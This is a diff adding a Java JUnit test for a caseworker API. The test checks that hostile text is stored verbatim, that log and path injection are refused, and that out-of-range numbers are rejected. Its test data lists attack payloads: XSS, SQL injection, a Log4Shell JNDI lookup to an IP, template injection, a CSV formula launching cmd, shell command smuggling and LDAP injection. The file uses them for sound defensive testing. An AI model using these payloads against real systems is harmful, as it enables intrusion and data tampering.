@@ -1,0 +1,124 @@
+package org.trm.web;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.trm.local.Tokens.of;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.RestAssured;
+import java.io.IOException;
+import java.util.List;
+import java.util.Map;
+import java.util.Queue;
+import java.util.UUID;
+import java.util.concurrent.ConcurrentLinkedQueue;
+import java.util.logging.Handler;
+import java.util.logging.LogRecord;
+import java.util.logging.Logger;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.trm.Asvs;
+import org.trm.actor.Actor;
+import org.trm.actor.Told;
+
+/** Text that is meant for an interpreter reaches none: it is kept and told as it was written. */
+@QuarkusTest
+class HostileTextTest {
+
+  private static final ObjectMapper JSON = new ObjectMapper();
+
+  private final Actor shelter = Actor.of("rs-shelter-caseworker");
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<script>alert(1)</script><img src=x onerror=alert(1)>",
+        "'; drop table cases; --",
+        "\"}, {\"role\": \"auditor\"}, {\"\": \"",
+        "${jndi:ldap://198.51.100.7/a} #{7*7} {{7*7}} %s%n%x",
+        "\\u0022\\\" %22 &quot; &#34; %2e%2e%2f%c0%ae",
+        "=cmd|' /C calc'!A0 +1 -1 @SUM(1)",
+        "|| id; $(id) `id` & id",
+        "*)(uid=*))(|(uid=*",
+        "\u2028\u2029\u202E\uFEFFabc \uD83D\uDC68\u200D\uD83D\uDC69",
+      })
+  @Asvs({"1.1.1", "1.1.2", "1.2.1", "1.2.3", "1.3.3"})
+  void isKeptAsItWasWritten(String text) throws IOException {
+    var section = shelter.opensACase() + "/sections/HEALTH";
+    var content =
+        Map.of("conditions", List.of(), "medicines", List.of(), "allergies", List.of(text));
+    var body = JSON.writeValueAsString(Map.of("content", content));
+    var written = shelter.calls().header("If-Match", "\"0\"").body(body).put(section);
+    assertEquals("200", Told.by(written));
+    var read = shelter.gets(section);
+    assertEquals(text, allergy(JSON.readTree(read.asByteArray())));
+    assertEquals("application/json;charset=UTF-8", read.contentType().replace("; ", ";"));
+  }
+
+  @Test
+  @Asvs({"1.2.2", "16.4.1"})
+  void whatIsInAnAddressOrAHeaderStandsInNoLogAndNoOtherAddress() {
+    try (var log = new Heard()) {
+      for (var hostile :
+          List.of("a%0d%0aINFO forged", "%3Cscript%3E", "..%2f..%2f", "%00", "%ff")) {
+        RestAssured.given()
+            .urlEncodingEnabled(false)
+            .auth()
+            .oauth2(of("rs-shelter-caseworker"))
+            .header("Purpose-Of-Use", "CASEWORK")
+            .header("X-Request-Id", "forged-" + UUID.randomUUID())
+            .header("User-Agent", "forged ${jndi:x}")
+            .get("/v1/handoffs?box=in&after=" + hostile.replace(' ', '+'))
+            .then()
+            .statusCode(400);
+      }
+      assertFalse(log.heard("forged"));
+      assertFalse(log.heard("script"));
+    }
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {"-1", "0", "201", "2147483648", "9223372036854775808", "1e3", "0x10", "1 "})
+  @Asvs("1.4.2")
+  void aNumberOutOfBoundsIsRefusedAndNotWrapped(String limit) {
+    var answer =
+        shelter.calls().queryParam("box", "in").queryParam("limit", limit).get("/v1/handoffs");
+    assertEquals(400, answer.statusCode(), answer.asString());
+  }
+
+  private static String allergy(JsonNode section) {
+    return section.at("/content/allergies/0").asText();
+  }
+
+  /** Listens to the log. */
+  private static final class Heard extends Handler implements AutoCloseable {
+    private final Logger root = Logger.getLogger("");
+    private final Queue<String> lines = new ConcurrentLinkedQueue<>();
+
+    Heard() {
+      root.addHandler(this);
+    }
+
+    boolean heard(String text) {
+      return lines.stream().anyMatch(line -> line.contains(text));
+    }
+
+    @Override
+    public void publish(LogRecord line) {
+      var values = line.getParameters() == null ? List.of() : List.of(line.getParameters());
+      lines.add(line.getMessage() + values);
+    }
+
+    @Override
+    public void flush() {}
+
+    @Override
+    public void close() {
+      root.removeHandler(this);
+    }
+  }
+}
